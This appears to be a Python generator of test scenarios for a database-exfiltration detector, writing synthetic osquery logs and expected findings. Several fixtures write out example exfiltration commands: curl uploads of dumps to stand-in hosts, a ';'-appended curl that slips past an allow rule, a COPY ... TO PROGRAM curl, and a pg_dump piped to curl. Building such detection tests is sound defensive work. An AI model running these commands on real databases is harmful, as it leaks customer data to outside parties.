"""Writes the correlator's own scenarios: NAME.log + NAME.json (same format as
../shared/scenarios, plus "chains" and "reasons" checks).

Run `python tests/correlate_scenarios/make_scenarios.py` after changing it and
commit the output; the tests read the files, not this script, so a scenario
is reviewable as plain osquery log lines.

Expectation keys:
- expect: [{host, user, min, max, reasons?}] every finding for host/user has
  min <= severity_id <= max, at least one exists, and its last finding names
  each of `reasons` (codes, without the ":+N");
- chains: [{host, user, nth, min, max, reasons?}] the nth chain (by first
  seen) of host/user, judged on its last finding;
- forbid: [{host, user, max}] no finding for host/user above max;
- other_max: cap on every other finding's severity.
"""

from __future__ import annotations

import hashlib
import json
import os
from typing import Any

HERE = os.path.dirname(os.path.abspath(__file__))
MON = 1793577600  # Mon 2026-11-02 00:00:00 UTC
H = 3600
D = 86400
NO_AUID = "4294967295"


class Log:
    def __init__(self, numerics: bool = False, prefix: str = "pack_dbwatch_") -> None:
        self.lines: list[str] = []
        self.numerics = numerics
        self.prefix = prefix
        self.counter = 0

    def _v(self, value: Any) -> Any:
        if self.numerics:
            return value
        return "" if value is None else str(value)

    def _head(self, query: str, host: str, t: int, counter: int | None = None) -> dict[str, Any]:
        self.counter += 1
        return {
            "name": self.prefix + query,
            "hostIdentifier": host,
            "calendarTime": "",
            "unixTime": t + 30,
            "epoch": 0,
            "counter": self.counter if counter is None else counter,
            "numerics": self.numerics,
            "decorations": {"host_uuid": hashlib.sha256(host.encode()).hexdigest()[:32].upper(), "hostname": host},
        }

    def event(self, query: str, host: str, t: int, columns: dict[str, Any], counter: int | None = None) -> None:
        obj = self._head(query, host, t, counter)
        obj["columns"] = {k: self._v(v) for k, v in sorted(columns.items())}
        obj["action"] = "added"
        self.lines.append(json.dumps(obj))

    def admins(self, host: str, t: int, members: list[tuple[str, str, int]], one_row: bool = False) -> None:
        rows = [{"groupname": g, "uid": self._v(uid), "username": u} for u, g, uid in members]
        if one_row:
            for row in rows:
                obj = self._head("admin_accounts", host, t, 0)
                obj["columns"] = row
                obj["action"] = "snapshot"
                self.lines.append(json.dumps(obj))
            return
        obj = self._head("admin_accounts", host, t, 0)
        obj["snapshot"] = rows
        obj["action"] = "snapshot"
        self.lines.append(json.dumps(obj))

    def db_exec(self, host: str, t: int, user: str, uid: int, cmdline: str, path: str, pid: int, parent_path: str,
                parent_cmdline: str = "", session: bool = True, cwd: str = "/", query: str = "db_cli_exec") -> None:
        self.event(query, host, t, {
            "auid": uid if session else NO_AUID, "cmdline": cmdline, "cwd": cwd, "euid": uid,
            "login_user": user if session else "", "parent": pid - 1, "parent_cmdline": parent_cmdline,
            "parent_path": parent_path, "path": path, "pid": pid, "time": t, "uid": uid, "username": user,
        })

    def transfer(self, host: str, t: int, user: str, uid: int, cmdline: str, path: str, pid: int,
                 session: bool = True, cwd: str = "/") -> None:
        self.db_exec(host, t, user, uid, cmdline, path, pid, "/usr/bin/bash", "", session, cwd, query="transfer_exec")

    def dump_file(self, host: str, t: int, path: str, owner: str, uid: int, size: int = 48213) -> None:
        self.event("dump_file_events", host, t, {
            "action": "CREATED", "inode": 1000 + len(self.lines), "owner": owner, "sha256": "", "size": size,
            "target_path": path, "time": t, "uid": uid,
        })

    def egress(self, host: str, t: int, pid: int, path: str, address: str, port: int, user: str = "",
               uid: int | None = None, status: str | None = None) -> None:
        columns: dict[str, Any] = {
            "auid": uid if user else NO_AUID, "family": 2, "login_user": user, "path": path, "pid": pid,
            "remote_address": address, "remote_port": port, "success": 1, "time": t,
        }
        if status is not None:  # osquery 5.x's socket status (agents before it log only success)
            columns["status"] = status
        self.event("db_egress", host, t, columns)

    def write(self, name: str, spec: dict[str, Any]) -> None:
        with open(os.path.join(HERE, name + ".log"), "w") as handle:
            handle.write("\n".join(self.lines) + "\n")
        spec = {"name": name, "log": name + ".log", "config": spec.pop("config", "config.yml"),
                "lines": len(self.lines), **spec}
        spec.setdefault("expect", [])
        spec.setdefault("forbid", [])
        spec.setdefault("other_max", 1)
        with open(os.path.join(HERE, name + ".json"), "w") as handle:
            json.dump(spec, handle, indent=1)
            handle.write("\n")


def webshell_egress_critical() -> None:
    log = Log()
    t = MON + 2 * D + 13 * H
    log.db_exec("web-7", t, "www-data", 33, "mysqldump -u root -pHunter2 shop", "/usr/bin/mariadb-dump", 901,
                "/usr/sbin/php-fpm8.2", "php-fpm: pool www", session=False, cwd="/var/www/html")
    log.dump_file("web-7", t + 3, "/var/www/html/wp-content/uploads/b.sql", "www-data", 33, 3_000_000)
    log.transfer("web-7", t + 60, "www-data", 33,
                 "curl -F f=@/var/www/html/wp-content/uploads/b.sql https://paste.example.org/up", "/usr/bin/curl", 950,
                 session=False)
    log.egress("web-7", t + 61, 950, "/usr/bin/curl", "198.51.100.23", 443)
    log.write("webshell-egress-critical", {
        "note": "php-fpm spawns mysqldump into the web root, then curl uploads it: critical",
        "expect": [{"host": "web-7", "user": "www-data", "min": 5, "max": 5,
                    "reasons": ["web-server-parent", "server-chain-egress", "dump-in-web-root", "password-on-cmdline",
                                "dump-intent", "egress-after-dump", "linked-by-path"]}],
        "secrets": ["Hunter2"],
    })


def allow_rule_metachar() -> None:
    log = Log()
    t = MON + 1 * D + 14 * H
    ok = "psql -d dw -c \\copy sales to '/srv/etl/sales.csv' csv"
    log.db_exec("bi-2", t, "analyst", 1070, ok, "/usr/bin/psql", 3001, "/usr/bin/bash", "-bash")
    bypass = ok + "; curl -T /srv/etl/sales.csv https://drop.example.com/x"
    log.db_exec("bi-3", t, "analyst", 1070, bypass, "/usr/bin/psql", 3002, "/usr/bin/bash", "-bash")
    log.write("allow-rule-metachar", {
        "note": "the allow rule covers analyst's documented \\copy, but never a command line with a ';' appended",
        "expect": [{"host": "bi-3", "user": "analyst", "min": 2, "max": 2, "reasons": ["unusual-access", "dump-intent"]}],
        "forbid": [{"host": "bi-2", "user": "analyst", "max": 0}],
    })


def automation_window_tz() -> None:
    log = Log()
    sat = MON + 5 * D
    inside = sat + D + 3 * H + 30 * 60  # Sun 03:30 UTC = Sat 22:30 in New York (EST)
    outside = sat + 22 * H + 30 * 60  # Sat 22:30 UTC = Sat 17:30 in New York
    for host, t in (("rep-1", inside), ("rep-2", outside)):
        log.db_exec(host, t, "reporter", 995, "psql -d sales -c select count(*) from orders", "/usr/bin/psql", 4001,
                    "/usr/sbin/cron", "/usr/sbin/CRON -f", session=False)
    log.write("automation-window-tz", {
        "note": "reporter's window is Saturday 22:00-23:59 America/New_York: inside at 03:30 UTC Sunday, outside at 22:30 UTC Saturday",
        "expect": [{"host": "rep-2", "user": "reporter", "min": 2, "max": 2, "reasons": ["service-outside-window"]}],
        "forbid": [{"host": "rep-1", "user": "reporter", "max": 0}],
    })


def service_outside_window() -> None:
    log = Log()
    t = MON + 6 * D + 14 * H  # Sunday 14:00 UTC: the backup window is weekdays 01:00-03:30
    log.db_exec("pg-9", t, "backup", 998, "pg_dump -Fc -f /var/backups/pg/all.dump customers", "/usr/bin/pg_dump", 7003,
                "/usr/sbin/cron", "/usr/sbin/CRON -f", session=False, cwd="/var/lib/backup")
    log.dump_file("pg-9", t + 70, "/var/backups/pg/all.dump", "backup", 998, 10**8)
    log.write("service-outside-window", {
        "note": "the backup service account's cron pg_dump on a Sunday afternoon, outside its window",
        "expect": [{"host": "pg-9", "user": "backup", "min": 3, "max": 3,
                    "reasons": ["service-outside-window", "dump-after-access", "dump-intent", "linked-by-path"]}],
    })


def into_outfile_mysql_owner() -> None:
    log = Log()
    t = MON + 1 * D + 15 * H
    log.db_exec("my-1", t, "bob", 1005,
                "mysql -u app -pS3cretPw shop -e SELECT * FROM customers INTO OUTFILE '/var/lib/mysql-files/c.csv'",
                "/usr/bin/mariadb", 5001, "/usr/bin/bash", "-bash")
    log.dump_file("my-1", t + 2, "/var/lib/mysql-files/c.csv", "mysql", 106, 900_000)
    log.write("into-outfile-mysql-owner", {
        "note": "the server writes INTO OUTFILE as mysql: linked to bob through the path on his command line",
        "expect": [{"host": "my-1", "user": "bob", "min": 3, "max": 3,
                    "reasons": ["linked-by-path", "dump-after-access", "password-on-cmdline"]}],
        "forbid": [{"host": "my-1", "user": "mysql", "max": 0}],
        "secrets": ["S3cretPw"],
    })


def pid_linked_egress() -> None:
    log = Log()
    t = MON + 2 * D + 16 * H
    log.db_exec("pg-4", t, "dave", 1010, "pg_dump -f /tmp/d.sql app", "/usr/bin/pg_dump", 6001, "/usr/bin/bash", "-bash")
    log.dump_file("pg-4", t + 20, "/tmp/d.sql", "dave", 1010)
    log.db_exec("pg-4", t + 120, "dave", 1010, "psql -h 198.51.100.7 -d collector -f /tmp/d.sql", "/usr/bin/psql", 6050,
                "/usr/bin/bash", "-bash")
    # The socket event has no login session: only its pid ties it to dave's psql.
    log.egress("pg-4", t + 121, 6050, "/usr/bin/psql", "198.51.100.7", 5432)
    log.write("pid-linked-egress", {
        "note": "dump, then a psql to an outside server loads it; the connect row has no auid, linked by pid",
        "expect": [{"host": "pg-4", "user": "dave", "min": 4, "max": 4, "reasons": ["linked-by-pid", "egress-after-dump"]}],
    })


def internal_egress() -> None:
    log = Log()
    t = MON + 3 * D + 11 * H
    log.db_exec("pg-5", t, "erin", 1011, "psql -d crm -c \\copy leads to '/tmp/e.csv' csv", "/usr/bin/psql", 6101,
                "/usr/bin/bash", "-bash", cwd="/home/erin")
    log.dump_file("pg-5", t + 5, "/tmp/e.csv", "erin", 1011)
    log.transfer("pg-5", t + 60, "erin", 1011, "scp /tmp/e.csv 192.168.1.5:/srv/in/", "/usr/bin/scp", 6120)
    log.egress("pg-5", t + 61, 6120, "/usr/bin/ssh", "192.168.1.5", 22, "erin", 1011)
    log.egress("pg-5", t + 90, 6130, "/usr/bin/curl", "10.20.30.40", 443, "erin", 1011)
    log.write("internal-egress", {
        "note": "the copy goes to internal_networks only: not egress, the chain stays medium",
        "expect": [{"host": "pg-5", "user": "erin", "min": 3, "max": 3, "reasons": ["dump-after-access"]}],
    })


def numerics_on() -> None:
    log = Log(numerics=True)
    t = MON + 1 * D + 2 * H + 10 * 60
    log.db_exec("pg-6", t, "mallory", 1004, "psql -h 127.0.0.1 -U app -d customers", "/usr/bin/psql", 4101,
                "/usr/bin/bash", "-bash", cwd="/home/mallory")
    log.dump_file("pg-6", t + 155, "/tmp/export.csv", "mallory", 1004)
    log.transfer("pg-6", t + 297, "mallory", 1004, "curl -T /tmp/export.csv https://files.example.net/u", "/usr/bin/curl", 4133)
    log.egress("pg-6", t + 298, 4133, "/usr/bin/curl", "93.184.216.34", 443, "mallory", 1004)
    log.write("numerics-on", {
        "note": "the insider chain logged with --logger_numerics (numbers are JSON numbers)",
        "expect": [{"host": "pg-6", "user": "mallory", "min": 4, "max": 4, "reasons": ["egress-after-dump"]}],
    })


def snapshot_forms() -> None:
    log = Log()
    t = MON + 1 * D + 9 * H
    log.admins("pg-7", t - 600, [("root", "root", 0), ("grace", "dba", 1010)], one_row=True)
    log.db_exec("pg-7", t, "grace", 1010, "pg_dump -f /tmp/g.sql billing", "/usr/bin/pg_dump", 8001, "/usr/bin/bash", "-bash")
    log.dump_file("pg-7", t + 10, "/tmp/g.sql", "grace", 1010)
    obj = log._head("db_cli_sessions", "pg-7", t + 60)
    obj["snapshot"] = [{
        "pid": "8100", "ppid": "8099", "start_time": str(t + 40), "path": "/usr/bin/mariadb", "cmdline": "mysql -h db2 -D hr",
        "cwd": "/home/frank", "tool": "mysql", "engine": "mysql", "tool_kind": "client", "uid": "1020", "euid": "1020",
        "username": "frank", "auid": "1020", "login_user": "frank", "tty": "pts/2", "interactive": "1",
        "parent_name": "bash", "parent_path": "/usr/bin/bash", "ancestry": "bash < sshd < sshd < systemd",
        "ancestry_paths": "/usr/bin/bash < /usr/sbin/sshd < /usr/sbin/sshd < /usr/lib/systemd/systemd",
        "systemd_unit": "session-4.scope", "service_context": "none", "server_parent": "",
    }]
    obj["action"] = "snapshot"
    log.lines.append(json.dumps(obj))
    log.write("snapshot-forms", {
        "note": "admin_accounts as one-row-a-line snapshot events; db_cli_sessions as a snapshot array",
        "expect": [{"host": "pg-7", "user": "frank", "min": 2, "max": 2, "reasons": ["from-session"]}],
        "forbid": [{"host": "pg-7", "user": "grace", "max": 0}],
    })


def fleet_team_names() -> None:
    log = Log(prefix="pack/team-7/dbwatch_")
    t = MON + 2 * D + 23 * H
    log.admins("pg-8", t - 3600, [("alice", "dba", 1001)])
    log.db_exec("pg-8", t, "mallory", 1004, "pg_dump -d customers -f /home/mallory/c.sql", "/usr/bin/pg_dump", 4201,
                "/usr/bin/bash", "")
    log.dump_file("pg-8", t + 40, "/home/mallory/c.sql", "mallory", 1004)
    log.transfer("pg-8", t + 200, "mallory", 1004, "tar czf /tmp/c.tgz /home/mallory/c.sql", "/usr/bin/tar", 4210)
    log.transfer("pg-8", t + 260, "mallory", 1004, "rclone copy /tmp/c.tgz remote:bucket", "/usr/bin/rclone", 4220)
    log.egress("pg-8", t + 261, 4220, "/usr/bin/rclone", "203.0.113.50", 443, "mallory", 1004)
    log.write("fleet-team-names", {
        "note": "Fleet team query names; the dump is archived with tar, then rclone sends it out",
        "expect": [{"host": "pg-8", "user": "mallory", "min": 4, "max": 4,
                    "reasons": ["dump-staged", "non-interactive", "egress-after-dump"]}],
    })


def history_access() -> None:
    log = Log()
    t = MON + 3 * D + 1 * H
    obj = log._head("db_client_history", "pg-10", t, 0)
    obj["diffResults"] = {"removed": [], "added": [{
        "uid": "1030", "user": "ivan", "file": "/home/ivan/.psql_history", "file_mtime": str(t - 30 * D), "line": "1",
        "from_tail": "0", "command": "select * from accounts limit 10;", "engine": "postgres", "dump_like": "0",
        "intent": "", "output_path": "",
    }]}
    log.lines.append(json.dumps(obj))
    obj = log._head("db_client_history", "pg-10", t + 2 * H, 1)
    obj["diffResults"] = {"removed": [], "added": [{
        "uid": "1031", "user": "heidi", "file": "/home/heidi/.psql_history", "file_mtime": str(t + 2 * H - 40),
        "line": "12", "from_tail": "0", "command": "\\copy customers to '/tmp/h.csv' csv", "engine": "postgres",
        "dump_like": "1", "intent": "\\copy to", "output_path": "/tmp/h.csv",
    }]}
    log.lines.append(json.dumps(obj))
    log.dump_file("pg-10", t + 2 * H - 50, "/tmp/h.csv", "heidi", 1031)
    log.transfer("pg-10", t + 2 * H + 100, "heidi", 1031, "curl -T /tmp/h.csv https://198.51.100.80/in", "/usr/bin/curl", 9100)
    log.write("history-access", {
        "note": "access seen only in heidi's psql history (the exec was missed); ivan's counter-0 history is old content",
        "expect": [{"host": "pg-10", "user": "heidi", "min": 4, "max": 4,
                    "reasons": ["from-history", "linked-by-path", "egress-after-dump"]}],
        "forbid": [{"host": "pg-10", "user": "ivan", "max": 0}],
    })


def server_parents() -> None:
    log = Log()
    t = MON + 3 * D + 20 * H
    # COPY ... TO PROGRAM spawns a shell under the postgres server, which runs psql.
    log.db_exec("pg-11", t, "postgres", 113, "psql -c select * from pg_shadow", "/usr/bin/psql", 9301,
                "/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: app app 10.0.0.5(51234) COPY", session=False)
    # A client run from a hidden binary in /tmp, then an upload with no dump file.
    log.db_exec("pg-11", t + 100, "kim", 1040, "psql -d app", "/usr/bin/psql", 9401, "/tmp/.x/run", "/tmp/.x/run")
    log.transfer("pg-11", t + 200, "kim", 1040, "curl -d @- https://collector.example.com/p", "/usr/bin/curl", 9410)
    log.write("server-parents", {
        "note": "psql under the postgres server (COPY TO PROGRAM); psql from a hidden staging binary then an upload",
        "expect": [
            {"host": "pg-11", "user": "postgres", "min": 4, "max": 4, "reasons": ["db-server-parent"]},
            {"host": "pg-11", "user": "kim", "min": 3, "max": 3,
             "reasons": ["unusual-parent", "non-interactive", "egress-after-access"]},
        ],
    })


def web_account_no_session() -> None:
    log = Log()
    t = MON + 4 * D + 3 * H
    log.db_exec("web-8", t, "nginx", 101, "mysql -u shop -pX -e select * from users", "/usr/bin/mariadb", 1201,
                "/usr/bin/dash", "sh -c mysql -u shop -pX -e 'select * from users'", session=False, cwd="/var/www")
    log.write("web-account-no-session", {
        "note": "a DB client as nginx with no session and no service context: at least high even alone",
        "expect": [{"host": "web-8", "user": "nginx", "min": 4, "max": 4, "reasons": ["web-account-no-session"]}],
    })


def baseline_habitual_novel() -> None:
    log = Log()
    host = "bi-1"
    for week in range(4):
        t = MON + week * 7 * D + 10 * H + 5 * 60
        log.db_exec(host, t, "judy", 1050, "psql -d bi", "/usr/bin/psql", 2000 + week, "/usr/bin/bash", "-bash")
    last = MON + 3 * 7 * D
    log.db_exec(host, last + 2 * D + 3 * H, "judy", 1050, "psql -d bi", "/usr/bin/psql", 2100, "/usr/bin/bash", "-bash")
    log.db_exec(host, last + 3 * D + 12 * H, "mallet", 1060, "psql -d bi", "/usr/bin/psql", 2300, "/usr/bin/bash", "-bash")
    log.db_exec(host, last + 4 * D + 10 * H + 5 * 60, "judy", 1050, "psql -d bi", "/usr/bin/psql", 2400,
                "/usr/bin/python3", "-bash")
    log.db_exec(host, last + 7 * D + 10 * H + 30 * 60, "judy", 1050, "pg_dump -d bi -f /home/judy/bi.sql", "/usr/bin/pg_dump",
                2200, "/usr/bin/bash", "-bash")
    log.write("baseline-habitual-novel", {
        "note": "judy's Monday 10:05 psql becomes habitual; her 03:00 run, her first pg_dump and mallet are novel",
        "chains": [
            {"host": host, "user": "judy", "nth": 0, "min": 2, "max": 2, "reasons": ["unusual-access"]},
            {"host": host, "user": "judy", "nth": 3, "min": 1, "max": 1, "reasons": ["baseline-habitual"]},
            {"host": host, "user": "judy", "nth": 4, "min": 3, "max": 3, "reasons": ["baseline-unusual-hour"]},
            {"host": host, "user": "judy", "nth": 5, "min": 3, "max": 3, "reasons": ["baseline-novel-parent"]},
            {"host": host, "user": "judy", "nth": 6, "min": 3, "max": 3, "reasons": ["baseline-novel-tool"]},
        ],
        "expect": [{"host": host, "user": "mallet", "min": 3, "max": 3, "reasons": ["baseline-novel-user"]}],
        "other_max": 3,
    })


def streamed_dump() -> None:
    log = Log()
    t = MON + 1 * D + 15 * H
    # `pg_dump shop | curl -s -T - URL` typed at a shell: bash forks both, same parent pid, same second.
    for query, cmd, path, pid in (("db_cli_exec", "pg_dump shop", "/usr/bin/pg_dump", 5201),
                                  ("transfer_exec", "curl -s -T - https://drop.example.net/s.sql", "/usr/bin/curl", 5202)):
        log.event(query, "db-6", t, {
            "auid": 1001, "cmdline": cmd, "cwd": "/home/eve", "euid": 1001, "login_user": "eve", "parent": 5200,
            "parent_cmdline": "-bash", "parent_path": "/usr/bin/bash", "path": path, "pid": pid, "time": t,
            "uid": 1001, "username": "eve"})
    log.egress("db-6", t, 5202, "/usr/bin/curl", "203.0.113.80", 443, "eve", 1001, status="in_progress")
    log.write("streamed-dump", {
        "note": "pg_dump to stdout piped into curl to an external address: the full chain with no file, high",
        "expect": [{"host": "db-6", "user": "eve", "min": 4, "max": 4,
                    "reasons": ["streamed-dump", "egress-after-dump", "linked-by-pid"]}],
    })


def copy_to_program() -> None:
    log = Log()
    t = MON + 1 * D + 16 * H
    log.db_exec("pg-12", t, "eve", 1001,
                "psql postgresql://owner:S3cret@db/shop -c COPY customers TO PROGRAM 'curl -s -T - "
                "https://drop.example.net/c'", "/usr/bin/psql", 5501, "/usr/bin/bash", "-bash")
    # The server's `sh -c curl ...` has no session: only its connect is logged, with no login user.
    log.egress("pg-12", t + 1, 5507, "/usr/bin/curl", "203.0.113.90", 443, status="in_progress")
    # An exited parent (empty parent columns) is unknown, not automation.
    log.event("db_cli_exec", "pg-12", t + 3 * H, {
        "auid": 1002, "cmdline": "psql -h db -U app shop", "cwd": "/home/lou", "euid": 1002, "login_user": "lou",
        "parent": 0, "parent_cmdline": "", "parent_path": "", "path": "/usr/bin/psql", "pid": 5600,
        "time": t + 3 * H, "uid": 1002, "username": "lou"})
    log.write("copy-to-program", {
        "note": "COPY ... TO PROGRAM 'curl ...': the server sends the table out itself (high); a session whose "
                "parent had exited is parent-unknown, not non-interactive",
        "expect": [{"host": "pg-12", "user": "eve", "min": 4, "max": 4,
                    "reasons": ["server-exfil", "egress-after-access", "linked-by-program", "password-on-cmdline"]},
                   {"host": "pg-12", "user": "lou", "min": 2, "max": 2, "reasons": ["parent-unknown"]}],
        "forbid": [{"host": "pg-12", "user": "postgres", "max": 0}],
        "secrets": ["S3cret"],
    })


def db_connect_rename_allow() -> None:
    log = Log()
    t = MON + 2 * D + 11 * H
    # Issue 13: a renamed pg_dump is seen by its connect to the database (db_connect), its dump is renamed to
    # .txt (MOVED_FROM, MOVED_TO: the old name no longer stats, so no inode) and uploaded.
    log.event("db_connect", "db-60", t, {
        "auid": 1001, "family": 2, "login_user": "eve", "path": "/tmp/.cache-helper", "pid": 6001,
        "remote_address": "127.0.0.1", "remote_port": 5432, "socket": "", "status": "in_progress", "success": 1,
        "time": t})
    log.dump_file("db-60", t, "/tmp/y.sql", "eve", 1001)
    log.event("dump_file_events", "db-60", t + 20, {"action": "MOVED_FROM", "inode": "", "owner": "", "sha256": "",
                                                   "size": "", "target_path": "/tmp/y.sql", "time": t + 20, "uid": ""})
    log.event("dump_file_events", "db-60", t + 20, {"action": "MOVED_TO", "inode": 9001, "owner": "eve",
                                                   "sha256": "", "size": 19518, "target_path": "/tmp/notes.txt",
                                                   "time": t + 20, "uid": 1001})
    log.transfer("db-60", t + 40, "eve", 1001, "curl -s -T /tmp/notes.txt https://drop.example.net/u",
                 "/usr/bin/curl", 6010)
    # The same, uploaded to the site's backup bucket (config.yml egress_allow): medium, and said.
    log.event("db_connect", "db-61", t, {
        "auid": 1001, "family": 2, "login_user": "eve", "path": "/usr/bin/python3.11", "pid": 6101,
        "remote_address": "10.0.0.5", "remote_port": 3306, "socket": "", "status": "in_progress", "success": 1,
        "time": t})
    log.dump_file("db-61", t + 5, "/home/eve/orders.csv", "eve", 1001)
    log.transfer("db-61", t + 40, "eve", 1001, "curl -s -T /home/eve/orders.csv https://nightly.backups.example.com/o",
                 "/usr/bin/curl", 6110)
    log.write("db-connect-rename-allow", {
        "note": "a renamed client seen by its database connect, its dump renamed to .txt and uploaded: high; "
                "a script's export uploaded to an allowed backup target: medium",
        "expect": [{"host": "db-60", "user": "eve", "min": 4, "max": 4,
                    "reasons": ["network-seen-access", "from-connect", "linked-by-rename", "egress-after-dump"]},
                   {"host": "db-61", "user": "eve", "min": 3, "max": 3,
                    "reasons": ["network-seen-access", "egress-allowed", "dump-after-access"]}],
    })


if __name__ == "__main__":
    for make in (webshell_egress_critical, allow_rule_metachar, automation_window_tz, service_outside_window,
                 into_outfile_mysql_owner, pid_linked_egress, internal_egress, numerics_on, snapshot_forms,
                 fleet_team_names, history_access, server_parents, web_account_no_session, baseline_habitual_novel,
                 streamed_dump, copy_to_program, db_connect_rename_allow):
        make()
